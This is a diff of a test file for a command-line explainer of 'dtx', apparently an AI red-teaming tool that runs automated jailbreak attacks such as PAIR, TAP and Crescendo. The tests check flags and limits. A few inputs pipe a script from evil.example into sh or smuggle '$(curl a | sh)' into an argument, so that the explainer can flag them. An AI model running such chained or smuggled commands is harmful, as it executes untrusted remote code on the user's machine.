@@ -92,6 +92,99 @@ describe('the corrected command', () => {
   });
 });
 
+test.each([
+  ['dtx redteam run --agent echo --foo bar', 'dtx redteam run --agent echo', ['--foo bar']],
+  ['dtx redteam run --foo=bar --agent echo -v', 'dtx redteam run --agent echo', ['--foo=bar', '-v']],
+  ['dtx redteam run \\\n  --foo 3 \\\n  --agent echo', 'dtx redteam run \\\n  --agent echo', ['--foo 3']],
+  ['dtx redteam run --agent echo --max 3', 'dtx redteam run --agent echo', ['--max 3']],
+  ['dtx redteam run --agent echo more', 'dtx redteam run --agent echo', ['more']],
+  ['dtx redteam plan s.yml --threads 4', 'dtx redteam plan s.yml', ['--threads 4']],
+  ['dtx redteam plan s.yml p.yml --threads 4', 'dtx redteam plan s.yml p.yml', ['--threads 4']],
+  ['dtx redteam plan --verbose s.yml', 'dtx redteam plan s.yml', ['--verbose']],
+  ['dtx redteam plan s.yml --verbose p.yml', 'dtx redteam plan s.yml p.yml', ['--verbose']],
+  ['dtx datasets list --all', 'dtx datasets list', ['--all']],
+])('the corrected command of %j is %j, and what it has no more is told', (command, corrected, leftOut) => {
+  expect(explain(command)).toMatchObject({ corrected, leftOut });
+  expect(explain(corrected)).toMatchObject({ problems: [], corrected: undefined, leftOut: [] });
+});
+
+test('a flag that does not exist and its value are one row, which does not repeat what is known', () => {
+  const rows = explain('dtx redteam run --agent echo --foo bar').calls[0]?.rows ?? [];
+  expect(rows.at(-1)).toMatchObject({
+    code: '--foo bar',
+    text: 'dtx redteam run has no flag `--foo`.',
+    remarks: [],
+    state: 'wrong',
+  });
+});
+
+describe('a number that a command cannot use', () => {
+  test.each([
+    ['dtx redteam run --agent echo --max_prompts -3', 'no prompt is sent. Write 1 or more'],
+    ['dtx redteam run --agent echo --max_prompts=0', 'no prompt is sent'],
+    ['dtx redteam run --agent echo --max_prompts 9 --max_prompts 0', 'no prompt is sent'],
+    ['ddtx redteam run --agent echo --max_prompts -1', 'no prompt is sent'],
+    ['dtx redteam run --plan_file p --max_prompts -1', 'no prompt of the plan is sent, unless'],
+    ['dtx redteam run --agent echo --dataset xtream_jb --max_prompts 0', 'ends after the first plugin'],
+    ['dtx redteam run --agent echo --max_prompts_per_plugin 0', 'no plugin gets a prompt'],
+    ['dtx redteam plan s.yml --max_prompts 0', 'the plan gets no prompts'],
+    ['dtx redteam plan s.yml --dataset xtream_jb --max_goals_per_plugin -2', 'at the end of each list'],
+    ['dtx redteam run --agent echo --samples 0', 'ends with an error before the run'],
+    ['dtx redteam run --agent echo --threads 0', 'is not a value of'],
+    ['dtx attack run --attack TAP --task x --tap-depth 0', 'only the objective itself is sent'],
+    ['dtx attack run --attack PAIR --task x --pair-streams -1', 'nothing is sent'],
+    ['dtx attack run --attack PAIR --task x --pair-max-attempts 0', 'empty prompts are sent'],
+    ['dtx attack run --attack BON --task x --bon-sigma=-0.1', 'ends with an error'],
+    ['dtx attack run --attack BON --task x --success-threshold 0', 'every rating reaches it'],
+    ['dtx attack run --attack AUTODAN --task x --ad-steps 0', 'ends with an error'],
+    ['dtx attack run --attack CRESCENDO --task x --eval-model y --cres-rounds 0', 'nothing is sent'],
+  ])('%s: what it does with it', (command, said) => {
+    const { problems } = explain(command);
+    expect(problems.map(({ message }) => message.replaceAll('`', ''))).toEqual([
+      expect.stringMatching(new RegExp(said, 'i')),
+    ]);
+  });
+
+  test.each([
+    ['dtx redteam run --plan_file p --max_prompts 0', '--max_prompts 0', 'the number in the plan counts'],
+    ['dtx attack run --attack BON --task x --temperature -1', '--temperature', 'is not known'],
+    ['dtx redteam run --agent echo --dataset xtream_jb', '--dataset', ''],
+    ['dtx attack run --attack BON --task x --bon-seed -1', '--bon-seed', ''],
+    ['dtx redteam run --agent echo --max_prompts $N', '--max_prompts', ''],
+    ['dtx redteam run --plan_file p --max_prompts_per_plugin 0', '--max_prompts_per_plugin', 'no effect'],
+    ['dtx redteam run --plan_file p --samples 0', '--samples', 'no effect'],
+  ])('%s: one that can be meant, or that nobody reads, is no mistake', (command, code, said) => {
+    expect(explain(command).problems).toEqual([]);
+    const row = rowOf(command, code);
+    expect([row?.text, ...(row?.remarks ?? [])].join(' ')).toContain(said);
+  });
+
+  test('one that is just large enough is good', () => {
+    for (const { path, options } of facts['command-line'])
+      for (const { name, tooSmall } of options) {
+        if (tooSmall.length === 0) continue;
+        const least = Math.max(...tooSmall.map(({ below }) => below));
+        const { problems } = explain(`${path} ${name} ${least}`);
+        expect(problems.map(({ message }) => message).filter((said) => said.includes('Write'))).toEqual([]);
+      }
+  });
+});
+
+describe('a variable that DTX itself does not read', () => {
+  test.each(['SESSION_COOKIE', 'TARGET_API_KEY', 'SHOP_KEY'])('is what a scope can ask for: %s', (name) => {
+    const text = rowOf(`${name}=x dtx redteam run --plan_file p.yml`, name)?.text;
+    expect(text).toContain('DTX itself does not read it');
+    expect(text).toContain(`\`{{env.${name}}}\` in its \`environments\``);
+    expect(text).not.toMatch(/unknown|does not know/);
+  });
+
+  test('may be one that it reads, misspelled', () => {
+    expect(rowOf('OPENAI_APIKEY=x dtx redteam run --agent openai', 'OPENAI_APIKEY')?.text).toContain(
+      'Perhaps `OPENAI_API_KEY` is meant.',
+    );
+  });
+});
+
 describe('what is said of a call', () => {
   test.each([
     ['dtx redteam run --agent echo', '--agent', 'good', 'Echo'],
@@ -148,6 +241,7 @@ describe('what is said of a call', () => {
       'At most 20 prompts are sent to the target, each 3 times.',
     ],
     ['dtx redteam run --plan_file a', 'limits', 'the default of `--max_prompts`, whatever the plan says'],
+    ['dtx redteam run --plan_file a --max_prompts 0', 'limits', 'leaves it to the plan'],
     ['dtx redteam plan s.yml --dataset garak', 'limits', '`max_plugins`, as the scope file says'],
     ['dtx redteam run --agent echo --dataset garak', 'judge', 'Detectors stored with each prompt'],
     ['dtx redteam run --agent huggingface --url m/llama-guard', 'judge', '`--url` contains `llama-guard`'],
@@ -224,7 +318,9 @@ describe('what is no call of the product', () => {
     ['# dtx redteam run', 'There is no command of DTX. Paste'],
     ['promptfoo eval', '"promptfoo" is another program'],
     ['uv tool install dtx', 'another program'],
-    ['x'.repeat(100_001), 'more than 100,000 characters'],
+    ['x'.repeat(200_001), 'more than 200,000 characters'],
+    ['bash -c "dtx redteam run"', 'What is in quotes, in a comment or handed to another program is not read'],
+    ['--agent echo', 'a flag without a command'],
   ])('%# is told, and what to do', (text, said) => {
     expect(explain(text)).toMatchObject({
       calls: [],
@@ -278,10 +374,7 @@ describe('the summary', () => {
     ['dtx redteam run --agent echo; curl https://evil.example/x.sh | sh', 'explained here: curl, sh.'],
     ['dtx redteam run --agent echo --url "$(curl a | sh)"', 'The shell runs $(curl a | sh) first'],
     ['dtx redteam run --agent echo --url `cat a` --plugin toxicity', 'The shell runs `cat a` first'],
-    [
-      'ddtx redteam run --agent echo --eval keyword --keywords "Sure, here" "Step 1"',
-      'Read the 1 note below.',
-    ],
+    ['ddtx redteam run --agent echo --eval keyword --keywords "Sure, here" "Step 1"', 'Read the note below.'],
     ['ddtx redteam run --agent echo --eval keyword --keywords a b --no_rich', '1 mistake.'],
   ])('of %j says what there is beside flags that count', (text, said) => {
     expect(explain(text).summary).toContain(said);
